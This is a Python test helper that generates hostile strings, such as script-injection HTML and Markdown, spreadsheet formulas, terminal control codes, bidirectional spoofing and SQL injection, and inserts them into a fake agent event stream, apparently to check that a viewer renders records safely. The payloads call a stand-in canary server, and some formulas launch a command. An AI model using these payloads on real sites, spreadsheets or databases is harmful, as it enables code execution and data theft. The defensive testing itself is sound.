"""Hostile texts in a record, file name or link, against browsers, spreadsheets and terminals.

The texts try to make one of these act.

A script that runs sets `window.__pwned`; whatever loads or sends something asks the canary.
"""

from __future__ import annotations

import json
from typing import Any

from tests.conftest import record

SUMMARY = """TEXT

**3.2x speedup** of TEXT: 100 ms → 31 ms (measured). Modified `TEXT`.

| TEXT | before | after |
|------|--------|-------|
| TEXT | 2 s    | 1 s   |"""

RUN_SCRIPT = "window.__pwned=1"


def payloads(canary: str) -> dict[str, str]:
    """Name → text. `canary` is the address of the canary server."""
    fetch = f"{RUN_SCRIPT};fetch('{canary}/fetch')"
    return {
        "script": f"<script>{fetch}</script>",
        "script that closes one": f"</script><script>{fetch}</script>",
        "script from the canary": f'<script src="{canary}/x.js"></script>',
        "comment that ends": f"--><script>{fetch}</script><!--",
        "end of a title": f"</title></style></textarea><script>{fetch}</script>",
        "image error": f'<img src=x onerror="{fetch}">',
        "image": f'<img src="{canary}/image.png">',
        "image set": f'<picture><source srcset="{canary}/set.png"><img></picture>',
        "svg": f'<svg onload="{fetch}"><image href="{canary}/svg.png"/></svg>',
        "svg script": f"<svg><script>{fetch}</script></svg>",
        "math": f'<math><a xlink:href="javascript:{RUN_SCRIPT}">m</a></math>',
        "details": f'<details open ontoggle="{fetch}">',
        "input": f'<input autofocus onfocus="{fetch}">',
        "video": (
            f'<video poster="{canary}/poster.png" src="{canary}/video.mp4" autoplay '
            f'onloadstart="{RUN_SCRIPT}">'
        ),
        "frame": (
            f'<iframe src="{canary}/frame"></iframe><iframe '
            f'srcdoc="<script>parent.{RUN_SCRIPT}</script>"></iframe>'
        ),
        "object": f'<object data="{canary}/object"></object><embed src="{canary}/embed">',
        "base": f'<base href="{canary}/base/">',
        "refresh": f'<meta http-equiv="refresh" content="0;url={canary}/refresh">',
        "form": (
            f'<form action="{canary}/form"><button autofocus '
            f'formaction="javascript:{RUN_SCRIPT}">x</button></form>'
        ),
        "style": (
            f'<style>@import "{canary}/style.css"; * '
            f"{{ background: url({canary}/css.png) }}</style>"
        ),
        "style attribute": f'<p style="background:url({canary}/attribute.png)">x</p>',
        "stylesheet": (
            f'<link rel="stylesheet" href="{canary}/sheet.css"><link rel="prefetch" '
            f'href="{canary}/prefetch">'
        ),
        "attribute that ends": f'" onmouseover="{fetch}" autofocus onfocus="{fetch}" x="',
        "quote that ends": f"' onfocus='{fetch}' autofocus x='",
        "markdown image": f"![x]({canary}/markdown.png)",
        "markdown image by reference": f"![x][ref]\n\n[ref]: {canary}/reference.png",
        ("markdown link to script"): (
            f"[click](javascript:{RUN_SCRIPT}) [click](data:text/html,"
            f"<script>{RUN_SCRIPT}</script>)"
        ),
        "markdown autolink": f"<javascript:{RUN_SCRIPT}> <{canary}/autolink>",
        "markdown html": f'\n\n<div>\n\n<img src="{canary}/block.png">\n\n</div>',
        ("markdown directive"): (
            f":red[x] :material/home: $\\href{{javascript:{RUN_SCRIPT}}}{{x}}$ "
            f"$\\includegraphics{{{canary}/tex.png}}$"
        ),
        "markdown code that ends": f"```\n</code></pre><script>{fetch}</script>\n```",
        "template": "{{7*7}} ${7*7} <%= 7*7 %> {% raw %} #{7*7}",
        "plotly": (
            f'<a href="javascript:{RUN_SCRIPT}">x</a><b '
            f'onclick="{RUN_SCRIPT}">%{{customdata}}</b><extra></extra>'
        ),
        "data address": f"data:text/html,<script>{RUN_SCRIPT}</script>",
        "formula": '=HYPERLINK("' + canary + '/formula","x")',
        "formula plus": "+cmd|' /C calc'!A0",
        "formula minus": "-2+3+cmd|' /C calc'!A0",
        "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
        "formula behind a tab": f'\t=WEBSERVICE("{canary}/tab")',
        "formula behind a line end": f'\r\n=WEBSERVICE("{canary}/line")',
        "formula behind a line feed": f'\n=WEBSERVICE("{canary}/feed")',
        "controls": "\x1b[2J\x1b]0;owned\x07\x08\x9b31m red",
        "bidi": "\u202egpj.exe\u2066 \u2069 \u202c \u200f",
        "separators": "a\u2028b\u2029c\x85d\x0be",
        "half of a pair": "\ud800 \udfff",
        "pipes": "a|b `c` *d* _e_ [f] # g\n| h |\n|---|",
        "sql": "'); drop table runs; --",
        "json": '"}],"a":{"\\u0000":',
    }


def hostile_stream(text: str, number: int) -> bytes:
    """A stream of events with a record, as JSON lines, in which every text is hostile.

    Run_id and session begin with the number.
    """
    identity = f"{number} {text}"
    call = {"type": "tool_use", "id": text, "name": text, "input": {text: text}}
    usage = record()["modelUsage"]["claude-opus-4-6"]
    events: list[dict[str, Any]] = [
        {"type": "system", "subtype": "init", "session_id": identity}
        | dict.fromkeys(("cwd", "model", "permissionMode"), text),
        {
            "type": "assistant",
            "session_id": identity,
            "message": {"role": text, "model": text, "content": [call]},
        },
        record(
            uuid=identity,
            session_id=identity,
            result=SUMMARY.replace("TEXT", text),
            stop_reason=text,
            terminal_reason=text,
            fast_mode_state=text,
            permission_denials=[
                {"tool_name": text, "tool_use_id": text, "tool_input": {text: text}}
            ],
            modelUsage={text: usage},
        ),
    ]
    return "\n".join(map(json.dumps, events)).encode()
